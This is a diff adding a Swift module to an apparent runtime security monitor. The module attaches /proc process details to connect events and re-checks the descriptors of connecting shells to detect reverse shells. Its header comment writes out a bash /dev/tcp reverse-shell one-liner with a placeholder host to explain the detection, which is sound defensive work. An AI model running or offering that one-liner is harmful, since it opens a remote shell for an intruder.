@@ -1,0 +1,71 @@
+// SPDX-License-Identifier: Apache-2.0
+// Adds what /proc says about the connecting process to each connect event, and re-reads the
+// descriptors of shells and interpreters that connect. A shell that redirects its own stdio to a
+// socket it opened (`exec 3<>/dev/tcp/h/p; exec 0<&3 1>&3 2>&3`) execs nothing afterwards, so only a
+// second look at its fds 0-2, a moment after the connect, shows the reverse shell.
+
+import Foundation
+import RuntimeWatchCore
+
+public struct ConnectEnrichment: Sendable {
+    /// When to look again at a connecting shell's descriptors.
+    public var rereadDelays: [Duration] = [.milliseconds(50), .milliseconds(500)]
+    /// Most re-reads waiting at once; beyond it new ones are skipped (bounded work under a storm).
+    public var maxPendingRereads = 64
+    public var reader = ProcReader()
+
+    public init() {}
+
+    /// Wraps `connects`: each connect event gains `process` (read from /proc now, while the
+    /// connector most likely still lives), and shell-like connectors get `fds` events later.
+    public func enrich(_ connects: AsyncStream<EventRecord>) -> AsyncStream<EventRecord> {
+        let (stream, continuation) = AsyncStream.makeStream(of: EventRecord.self, bufferingPolicy: .bufferingOldest(8192))
+        let pending = PendingCounter(limit: maxPendingRereads)
+        let task = Task.detached { [self] in
+            for await var record in connects {
+                guard case .connect(var connect) = record.event else { continuation.yield(record); continue }
+                let read = reader.read(pid: connect.pid.rawValue)
+                if connect.process == nil, let info = read.info {
+                    connect.process = info
+                    record.event = .connect(connect)
+                }
+                continuation.yield(record)
+                guard let info = read.info, isShellLike(info), pending.acquire() else { continue }
+                let pid = connect.pid
+                Task.detached {
+                    defer { pending.release() }
+                    var last = info.fds
+                    for delay in rereadDelays {
+                        try? await Task.sleep(for: delay)
+                        guard let now = reader.read(pid: pid.rawValue).info, let fds = now.fds else { return }
+                        if fds != last {
+                            continuation.yield(EventRecord(timestamp: WallClock.nowNanoseconds(), event: .descriptors(DescriptorsEvent(pid: pid, fds: fds))))
+                            last = fds
+                        }
+                    }
+                }
+            }
+            continuation.finish()
+        }
+        continuation.onTermination = { _ in task.cancel() }
+        return stream
+    }
+
+    private func isShellLike(_ info: RuntimeWatchCore.ProcessInfo) -> Bool {
+        switch ProgramClassifier.kind(of: info) {
+        case .shell, .interpreter: true
+        default: false
+        }
+    }
+}
+
+/// A counter with a ceiling, shared by the re-read tasks.
+private final class PendingCounter: @unchecked Sendable {
+    // @unchecked: `value` is only touched under `lock`.
+    private let lock = NSLock()
+    private var value = 0
+    private let limit: Int
+    init(limit: Int) { self.limit = limit }
+    func acquire() -> Bool { lock.withLock { if value >= limit { return false }; value += 1; return true } }
+    func release() { lock.withLock { value -= 1 } }
+}
